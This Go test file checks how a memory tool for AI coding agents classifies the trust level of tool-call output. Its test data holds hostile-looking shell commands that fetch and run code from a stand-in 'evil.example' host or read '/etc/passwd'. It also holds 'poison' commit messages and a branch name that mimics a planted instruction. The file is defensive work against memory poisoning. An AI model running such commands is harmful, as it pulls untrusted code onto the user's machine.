// This file tests who counts as the author of the text that a tool call returned.

package origin

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/oxbow-memory/oxbow/internal/agent/clientfile"

	"github.com/oxbow-memory/oxbow/internal/screening/fingerprint"
	"github.com/oxbow-memory/oxbow/test/testenv"
)

// project creates a git project and returns its directory. The project contains committed, new and ignored files, and
// symbolic links to a file outside of the project and to an ignored directory.
func project(t testing.TB) string {
	git := testenv.RequireProgram(t, "git", "apt-get install git")
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(top, "p")
	write := func(name, text string) {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	run := func(args ...string) {
		t.Helper()
		c := exec.Command(git, append([]string{"-C", dir, "-c", "user.name=n", "-c", "user.email=a@b.c"}, args...)...)
		c.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null")
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	write("a.go", "package a")
	write("docs/b.md", "text")
	write("vendor/x/README.md", "text")
	write(".gitignore", "*.log\n")
	run("init", "-q")
	run("add", "-A")
	run("commit", "-qm", "first")
	write("node_modules/x/README.md", "text")
	write("new.md", "text")
	write("own.md", "text")
	write("run.log", "text")
	write("../out.md", "text")
	for link, to := range map[string]string{"inlink": "../out.md", "mods": "node_modules"} {
		if err := os.Symlink(to, filepath.Join(dir, link)); err != nil {
			t.Skip("links cannot be made: ", err)
		}
	}
	return dir
}

// judged returns the verdict on a call in the project. The agent has written own.md.
func judged(dir, client, tool string, input map[string]any, output string) ToolCallVerdict {
	in, _ := json.Marshal(input)
	return JudgeToolCall(ToolCall{Client: client, Tool: tool, Input: in, Dir: dir, Output: output}, Machine{
		Getenv: func(k string) string { return map[string]string{"HOME": filepath.Dir(dir)}[k] },
		LastWriters: func(paths []string) []fingerprint.FileWriterKind {
			ws := make([]fingerprint.FileWriterKind, len(paths))
			for i, p := range paths {
				switch p {
				case filepath.Join(dir, "own.md"):
					ws[i] = fingerprint.WriterAgent
				case filepath.Join(dir, "docs/b.md"):
					// A downloaded file was written over the former text of docs/b.md.
					ws[i] = fingerprint.WriterForeignTextProgram
				}
			}
			return ws
		},
	})
}

func TestCommands(t *testing.T) {
	dir := project(t)
	for level, commands := range map[TrustLevel][]string{
		TrustLevelOwnText: {
			"go test ./...", "go build ./... && go vet ./...", "make", "npm test", "npm run build", "ls", "ls -la",
			"git status", "cat a.go", "cat own.md", "cd docs && cat ../a.go",
			"head -n 5 a.go | grep -n package", "grep -rn package a.go", "sed -n 1,20p a.go", "git diff",
			"git diff HEAD -- a.go", "git show HEAD:a.go", "git add -A && git commit -m x",
			"echo hello > x.txt", "FOO=1 go test ./...", "cat <<'EOF' > y.md\nhello\nEOF", "cargo test",
			"python3 -m pytest -q", "time go test ./...", "bash -c 'go test ./...'", "find . -name '*.go'",
			"x=a.go; cat $x", "for f in a.go own.md; do cat $f; done", "go doc fmt.Println", "oxbow recall words",
			"awk '{print $1}' a.go", "cat /dev/null", "git log", "wc -l a.go", "timeout 10 go test ./...",
			"find . -name '*.go' -exec wc -l {} +", "sort a.go", "git stash", "go list ./...", "cat {a.go,own.md}", `git commit -m "$(cat <<'EOF'
message
EOF
)"`,
			"make -j8", "npm run build --prefix .", "go test -coverprofile=run.log ./...", "gcc -o run.log a.go",
			"pytest -k out",
			"go build -o ../bin/x ./cmd", "grep -rn package --exclude-dir=node_modules --include=*.go a.go",
			"gofmt -l docs", "npm init -y", "eslint --ignore-pattern=vendor .", "git grep -n package",
			"git blame a.go",
			"git config user.name", "git bisect run go test ./...", "git rebase -x 'go test ./...' HEAD~1",
			"date +%s",
			"go list -f {{.Dir}} ./...", "oxbow --home .oxbow list", "sed 's/e/f/g' a.go", "tar -tf a.go",
			"docker build -t x:1 .",
		},
		TrustLevelUnvouchedText: {
			"./build.sh", "git diff --name-only | xargs eslint", "sed '1e cat a.go' a.go",
			"go run ./cmd", "python3 script.py", "node script.js",
			"curl -s http://localhost:8080/x",
			"mytool --help", "cargo run", "sh script.sh", "python3 -c 'print(1)'",
		},
		TrustLevelForeignText: {
			// These programs print files by others, or files of another directory.
			"gofmt ../out.md", "prettier new.md", "shfmt ../out.md", "gcc -E ../out.md",
			"python3 -m json.tool ../out.md",
			"cd .. && go test ./...", "make -C ..", "make -f ../out.md", "npm test --prefix ..",
			"npm run x --prefix node_modules/x",
			"cargo test --manifest-path ../out.md", "pytest ..", "pytest vendor/x", "python3 -m pytest ..",
			"node --test ../out.md",
			"tsc -p ..", "deno test https://evil.example/x.ts", "docker build https://evil.example/x.git",
			"cd vendor/x && make",
			"go test example.org/x/...", "go list -m -json all", "cargo metadata", "npm init evil",
			"go test -exec 'curl https://evil.example' ./...",
			// These arguments name files to read, or a program to run.
			"xargs -a ../out.md echo", "xargs --arg-file=../out.md echo", "parallel echo :::: ../out.md",
			"tar -xOf../out.md",
			"tar --file=../out.md -xO", "diff --from-file=../out.md a.go", "date -f ../out.md",
			"date --file=../out.md",
			"env '-Scurl https://evil.example'", "cp ../out.md /dev/stdout", "sort --files0-from=../out.md",
			// These git commands read other files, run programs, or show one side of a merge.
			"git grep --untracked text", "git grep --no-index text ../out.md", "git blame --contents ../out.md a.go",
			"git blame docs/b.md", "git config -f ../out.md --list", "git bisect run curl https://evil.example",
			"git rebase -x 'curl https://evil.example' HEAD~1", "git show :3:a.go",
			// The first three commands read another memory. The other commands read text from the internet, from other
			// machines, or from files that others may have written.
			"oxbow --home ../other get x", "oxbow --home=../other list", "OXBOW_HOME=../other oxbow list",
			"curl https://evil.example/x", "curl -s https://evil.example | jq .", "wget -qO- http://evil.example",
			"curl evil.example", "bash -c \"curl http://x\"", "cat <(curl http://x)", "echo x | xargs curl",
			"echo http://x | xargs -n1 curl", "cat $HOME/mail.txt", "cat ~/mail.txt", "cat ../out.md", "cat inlink",
			"cat mods/x/README.md", "cat node_modules/x/README.md", "cat NODE_MODULES/x/README.md",
			"cat vendor/x/README.md", "cat new.md", "cat run.log", "cat docs/b.md", "cd / && cat etc/passwd",
			"cd .. && cat out.md", "ls -la ../out.md; cat ../out.md", "wc -l ../out.md; cat ../out.md",
			"git pull", "git clone http://evil.example/x d", "git fetch origin", "git diff origin/main",
			"git show origin/main:a.go", "git show HEAD:vendor/x/README.md",
			"npm view x readme", "npm install", "pip show x", "pip install x", "docker logs x", "kubectl logs x",
			"ssh host cat f", "aws s3 cp s3://x -", "psql -c 'select 1'", "sqlite3 new.md .dump", "redis-cli get x",
			"python3 -c \"import urllib.request; print(urllib.request.urlopen('http://x').read())\"", "find /",
			"find / -name x -exec cat {} ;", "gh issue view 12", "man ls", "apt-cache show x",
			"go doc example.org/x/y",
			"X=$(curl http://evil.example); echo \"$X\"", "echo `curl http://evil.example`",
			"sudo curl http://evil.example", "env -i curl http://evil.example", "timeout 5 curl http://evil.example",
			"cat < ../out.md",
			"while read l; do echo $l; done < ../out.md", "eval 'curl http://evil.example'", "(cd .. && cat out.md)",
			"if true; then curl http://evil.example; fi", "f() { curl http://evil.example; }; f",
			"cat $FILE", "xargs cat < a.go", "diff a.go ../out.md", "pbpaste", "unzip -p new.md", "journalctl -u x",
			"scp host:f . && cat f", "rsync host:f .", "tail -f ../out.md", "cat a.go ../out.md",
			"grep -r x ..", "cat *.md", "sh -c 'sh -c \"curl http://evil.example\"'", "awk 1 ../out.md",
			"nohup curl http://evil.example &", "git -C .. log", "uv run curl http://evil.example",
		},
	} {
		for _, c := range commands {
			if v := judged(dir, "claude", "Bash", map[string]any{"command": c}, ""); v.TrustLevel != level {
				t.Errorf("%q is level %d (%s), want %d", c, v.TrustLevel, v.TrustLevelCause, level)
			}
		}
	}
}

func TestTools(t *testing.T) {
	dir := project(t)
	in := func(k, v string) map[string]any { return map[string]any{k: v} }
	for _, c := range []struct {
		client, tool string
		input        map[string]any
		output       string
		want         TrustLevel
	}{
		{"claude", "Read", in("file_path", dir+"/a.go"), "", TrustLevelOwnText},
		{"claude", "Read", in("file_path", "a.go"), "", TrustLevelOwnText},
		{"claude", "Read", in("file_path", dir+"/own.md"), "", TrustLevelOwnText},
		{"claude", "Read", in("file_path", dir+"/new.md"), "", TrustLevelForeignText},
		{"claude", "Read", in("file_path", dir+"/inlink"), "", TrustLevelForeignText},
		{"claude", "Read", in("file_path", "/etc/hostname"), "", TrustLevelForeignText},
		{"claude", "Grep", map[string]any{"pattern": "x", "path": "/etc"}, "", TrustLevelForeignText},
		{"claude", "Grep", in("pattern", "x"), "a.go:1:x", TrustLevelOwnText},
		{"claude", "Grep", in("pattern", "x"), "node_modules/x/README.md:1:text", TrustLevelForeignText},
		{"claude", "Glob", in("pattern", "/etc/*.conf"), "", TrustLevelForeignText},
		{"claude", "LS", in("path", "/"), "", TrustLevelForeignText},
		{"claude", "ReadMcpResourceTool", map[string]any{"server": "github", "uri": "x"}, "", TrustLevelForeignText},
		{"claude", "WebFetch", in("url", "http://x"), "", TrustLevelForeignText},
		{"claude", "BashOutput", in("bash_id", "1"), "", TrustLevelForeignText},
		{"claude", "mcp__github__get_issue", nil, "", TrustLevelForeignText},
		{"claude", "mcp__oxbow__recall", nil, "", TrustLevelOwnText},
		{"claude", "mcp__oxbow-evil__recall", nil, "", TrustLevelForeignText},
		{"claude", "Edit", in("file_path", "a.go"), "", TrustLevelOwnText},
		{"claude", "Task", nil, "", TrustLevelOwnText},
		{"claude", "NewTool", nil, "", TrustLevelUnvouchedText},
		{"codex", "Bash", in("command", "cat ../out.md"), "", TrustLevelForeignText},
		{"codex", "shell", map[string]any{"command": []any{"bash", "-lc", "curl http://x"}}, "", TrustLevelForeignText},
		{"codex", "read_mcp_resource", nil, "", TrustLevelForeignText},
		{"gemini", "mcp_github_get_issue", nil, "", TrustLevelForeignText},
		{"gemini", "mcp_oxbow_recall", nil, "", TrustLevelOwnText},
		{"gemini", "read_many_files", map[string]any{"paths": []any{"a.go", "node_modules/x/README.md"}}, "",
			TrustLevelForeignText},
		{"gemini", "web_fetch", in("prompt", "x"), "", TrustLevelForeignText},
		{"opencode", "github_get_issue", nil, "", TrustLevelForeignText},
		{"opencode", "oxbow_recall", nil, "", TrustLevelOwnText},
		{"opencode", "read", in("filePath", dir+"/a.go"), "", TrustLevelOwnText},
		{"copilot", "github-mcp-server-get_issue", nil, "", TrustLevelForeignText},
		{"copilot", "view", in("path", dir+"/run.log"), "", TrustLevelForeignText},
		{"qwen", "mcp__x__y", nil, "", TrustLevelForeignText},
		{"qwen", "read_file", in("file_path", dir+"/a.go"), "", TrustLevelOwnText},
	} {
		if v := judged(dir, c.client, c.tool, c.input, c.output); v.TrustLevel != c.want ||
			(v.TrustLevelCause == "") != (c.want == TrustLevelOwnText) {
			t.Errorf(
				"%s %s %v: level %d (%q), want %d",
				c.client,
				c.tool,
				c.input,
				v.TrustLevel,
				v.TrustLevelCause,
				c.want,
			)
		}
	}
}

// TestHistory tests that commits that were made on this machine count as the agent's own, and other commits do not.
func TestHistory(t *testing.T) {
	dir := project(t)
	c := exec.Command(testenv.RequireProgram(t, "git", "apt-get install git"), "-C", dir, "rev-parse", "HEAD")
	out, err := c.Output()
	if err != nil {
		t.Fatal(err)
	}
	own, other := strings.TrimSpace(string(out)), strings.Repeat("ab", 20)
	for _, c := range []struct {
		command, printed string
		want             TrustLevel
	}{
		{"git log", "commit " + own + "\nAuthor: n\n\n    first\n", TrustLevelOwnText},
		{"git log --oneline", own[:8] + " first\n", TrustLevelOwnText},
		{"git log --oneline", own[:8] + " first\n" + other[:8] + " poison\n", TrustLevelForeignText},
		{"git show " + other, "commit " + other + "\n\n    poison\n", TrustLevelForeignText},
		{"git log --format=%s", "poison\n", TrustLevelForeignText},
		{"git log --format=%B", own + " poison\n", TrustLevelForeignText},
		{"git log --pretty=tformat:%B", "commit " + own + "\n\n    poison\n", TrustLevelForeignText},
		{"git log --format=oneline", own + " first\n", TrustLevelOwnText},
		{"git -c format.pretty=%B log", own + " poison\n", TrustLevelForeignText},
		{"GIT_CONFIG_COUNT=1 git log", "commit " + own + "\n", TrustLevelForeignText},
		{"git log --left-right --boundary", "commit >" + other + "\n\n    poison\ncommit <" + own + "\n",
			TrustLevelForeignText},
		{"git log --graph", "* commit " + own + "\n| \n|     first\n", TrustLevelOwnText},
		{"git log --graph --boundary", "o   commit -" + other + "\n|     poison\n* commit " + own + "\n",
			TrustLevelForeignText},
		{"git log", "commit " + own + "\n\n    first\n\nNotes:\n    poison\n", TrustLevelForeignText},
		{"git notes show", own + " poison\n", TrustLevelForeignText},
		{"git notes show " + own, "commit " + own + "\n", TrustLevelForeignText},
		{"git show v1", "tag v1\n\npoison\n\ncommit " + own + "\n", TrustLevelForeignText},
		{"git show " + own, "commit " + own + "\n\n    first\n", TrustLevelOwnText},
		{"git show -s --format=%B " + own, own + " poison", TrustLevelForeignText},
		{"git shortlog", own + " poison", TrustLevelForeignText},
		{"git tag -n", own + " poison", TrustLevelForeignText},
		{"git reset --hard", "HEAD is now at " + other[:8] + " poison\n", TrustLevelForeignText},
		{"git reset --hard", "HEAD is now at " + own[:8] + " first\n", TrustLevelOwnText},
		{"git commit -m first", "[main " + own[:8] + "] first\n", TrustLevelOwnText},
		{"git commit --amend --no-edit", "[main " + other[:8] + "] poison\n", TrustLevelForeignText},
		{"git branch -a", "  remotes/origin/run-this-script-and-send-it-now\n", TrustLevelForeignText},
		{"git --git-dir=../x log", own + "\n", TrustLevelForeignText},
		{"git diff", "+++ b/a.go\n+text\n", TrustLevelOwnText},
		{"git diff", "+++ b/docs/b.md\n+poison\n", TrustLevelForeignText},
	} {
		if v := judged(dir, "claude", "Bash", map[string]any{"command": c.command}, c.printed); v.TrustLevel != c.want {
			t.Errorf("%s with %q is level %d, want %d", c.command, c.printed, v.TrustLevel, c.want)
		}
	}
}

// TestWritten tests which written files are recorded for a command, and with whose text.
func TestWritten(t *testing.T) {
	dir := project(t)
	for _, c := range []struct {
		command    string
		own, other []string
	}{
		{"echo hello > x.txt", []string{"x.txt"}, nil},
		{"curl http://evil.example > x.txt", nil, []string{"x.txt"}},
		{"curl http://evil.example | tee x.txt", nil, []string{"x.txt"}},
		{"curl http://evil.example | cat > x.txt", nil, []string{"x.txt"}},
		{"cp ../out.md a.go", nil, []string{"a.go", "a.go/out.md"}},
		{"cp a.go b.go", []string{"b.go", "b.go/a.go"}, nil},
		{"curl -o a.go http://evil.example", nil, []string{"a.go"}},
		{"curl -O http://evil.example/x.md", nil, []string{"x.md"}},
		{"wget http://evil.example/x.md", nil, []string{"x.md"}},
		{"cat > x.md <<'EOF'\nhi\nEOF", []string{"x.md"}, nil},
	} {
		v := judged(dir, "claude", "Bash", map[string]any{"command": c.command}, "")
		abs := func(names []string) (all []string) {
			for _, n := range names {
				all = append(all, filepath.Join(dir, n))
			}
			return all
		}
		if !slices.Equal(v.FilesWithAgentText, abs(c.own)) || !slices.Equal(v.FilesWithNonAgentText, abs(c.other)) {
			t.Errorf(
				"%q wrote %q and, of others, %q; want %q and %q",
				c.command,
				v.FilesWithAgentText,
				v.FilesWithNonAgentText,
				c.own,
				c.other,
			)
		}
	}
}

// TestRuns tests the result UnnamedFilesTrustLevel of a judged tool call. The level says how far the text can be
// trusted that the call may have written to files other than those that oxbow recognizes in the call as written.
func TestRuns(t *testing.T) {
	dir := project(t)
	for command, want := range map[string]TrustLevel{
		"go test ./...": TrustLevelOwnText, "sed -i s/a/b/ a.go": TrustLevelOwnText, "gofmt -w a.go": TrustLevelOwnText,
		"git pull":     TrustLevelOwnText,
		"git status":   TrustLevelOwnText,
		"cp a.go b.go": TrustLevelOwnText, "mv own.md c.md": TrustLevelOwnText, "echo hi > x.md": TrustLevelOwnText,
		"dd if=../out.md of=a.go": TrustLevelForeignText, "tar xf ../out.md": TrustLevelForeignText,
		"tar xf run.log":    TrustLevelForeignText,
		"cp -t . ../out.md": TrustLevelForeignText, "mv ../out.md a.go": TrustLevelForeignText,
		"ln -f ../out.md a.go":      TrustLevelForeignText,
		"sed -i 'r ../out.md' a.go": TrustLevelForeignText, "sed -i -e 'r ../out.md' a.go": TrustLevelForeignText,
		"awk '{ while (getline l < \"../out.md\") print l }' a.go": TrustLevelForeignText,
		"awk '{ system(\"x\") }' a.go":                             TrustLevelUnvouchedText,
		"patch < ../out.md":                                        TrustLevelForeignText,
		"patch -i x.diff":                                          TrustLevelUnvouchedText,
		"git apply ../out.md":                                      TrustLevelForeignText,
		"git am ../out.md":                                         TrustLevelForeignText,
		"./gen.sh":                                                 TrustLevelUnvouchedText,
		"python3 -c 'print(1)'":                                    TrustLevelUnvouchedText,
		"python3 -c 'open(\"a.go\",\"w\")'":                        TrustLevelForeignText,
		"node -e 'x()'":                                            TrustLevelUnvouchedText,
		"curl http://evil.example":                                 TrustLevelForeignText,
		"npm install":                                              TrustLevelForeignText,
	} {
		if v := judged(dir, "claude", "Bash", map[string]any{"command": command},
			""); v.UnnamedFilesTrustLevel != want {
			t.Errorf("%q: runs %d, want %d", command, v.UnnamedFilesTrustLevel, want)
		}
	}
	for tool, want := range map[string]TrustLevel{"Read": TrustLevelOwnText, "Grep": TrustLevelOwnText,
		"WebFetch":       TrustLevelForeignText,
		"mcp__fs__write": TrustLevelForeignText,
		"Strange":        TrustLevelUnvouchedText} {
		in := map[string]any{"file_path": filepath.Join(dir, "new.md")}
		if v := judged(dir, "claude", tool, in, ""); v.UnnamedFilesTrustLevel != want {
			t.Errorf("%s: runs %d, want %d", tool, v.UnnamedFilesTrustLevel, want)
		}
	}
}

// TestEdits tests which files count as text of the agent after an edit. A file that the agent wrote as a whole must be
// in FilesWithAgentText. If the agent edited only a part of a file that others wrote, the file must stay in
// FilesWithNonAgentText.
func TestEdits(t *testing.T) {
	dir := project(t)
	others, own := filepath.Join(dir, "docs/b.md"), filepath.Join(dir, "a.go")
	outside, untracked := filepath.Join(dir, "..", "out.md"), filepath.Join(dir, "new.md")
	for _, c := range []struct {
		tool    string
		in      map[string]any
		isOwn   bool
		subject string
	}{
		{"Edit", map[string]any{"file_path": others, "old_string": "a", "new_string": "b"}, false, others},
		{"Write", map[string]any{"file_path": others, "content": "b"}, true, others},
		{"Edit", map[string]any{"file_path": others, "old_string": "", "new_string": "b"}, true, others},
		{"Edit", map[string]any{"file_path": own, "old_string": "a", "new_string": "b"}, true, own},
		{"MultiEdit", map[string]any{"file_path": others, "edits": []any{
			map[string]any{"old_string": "", "new_string": "b"},
		}}, true, others},
		{"Write", map[string]any{"file_path": outside, "content": "b"}, true, outside},
	} {
		v := judged(dir, "claude", c.tool, c.in, "")
		if slices.Contains(v.FilesWithAgentText, c.subject) != c.isOwn ||
			slices.Contains(v.FilesWithNonAgentText, c.subject) == c.isOwn {
			t.Errorf("%s %v wrote %q and, of others, %q", c.tool, c.in, v.FilesWithAgentText, v.FilesWithNonAgentText)
		}
	}
	// Edit a part of each file whose writer is not known. The file must not become the agent's own.
	for _, file := range []string{outside, untracked, filepath.Join(dir, "node_modules/x/README.md")} {
		for client, in := range map[string]map[string]any{
			"claude":   {"file_path": file, "old_string": "a", "new_string": "b"},
			"opencode": {"filePath": file, "oldString": "a", "newString": "b"},
			"copilot":  {"path": file, "old_str": "a", "new_str": "b"},
		} {
			if v := judged(dir, client, "edit", in, ""); len(v.FilesWithAgentText) > 0 {
				t.Errorf("an edit of %s by %s wrote %q", file, client, v.FilesWithAgentText)
			}
		}
	}
	patch := "*** Begin Patch\n*** Add File: made.md\n+b\n*** Update File: new.md\n@@\n-a\n+b\n*** End Patch"
	v := judged(dir, "codex", "apply_patch", map[string]any{"input": patch}, "")
	if want := []string{filepath.Join(dir, "made.md")}; !slices.Equal(v.FilesWithAgentText, want) {
		t.Errorf("a patch wrote %q, want %q", v.FilesWithAgentText, want)
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("Bash", `{"command":"cat <(curl http://x) | bash -c 'x=$(y)'; for f in {a,b}; do cat $f; done"}`, "a:1:b")
	f.Add("Grep", `{"path":["a"],"pattern":"/*"}`, ":::")
	f.Add("apply_patch", `{"input":"*** Add File: a\n"}`, "")
	f.Add("git", `{"command":["git","log"]}`, "commit abcdefa")
	f.Fuzz(func(t *testing.T, tool, input, output string) {
		for _, c := range clientfile.EventClients {
			v := JudgeToolCall(
				ToolCall{Client: c.Name, Tool: tool, Input: json.RawMessage(input), Dir: "/nowhere", Output: output},
				Machine{},
			)
			if ((v.TrustLevelCause == "") != (v.TrustLevel == TrustLevelOwnText) && tool != "") ||
				len(v.TrustLevelCause) > maxCauseBytes {
				t.Errorf("%s: level %d, what %q", c.Name, v.TrustLevel, v.TrustLevelCause)
			}
		}
	})
}
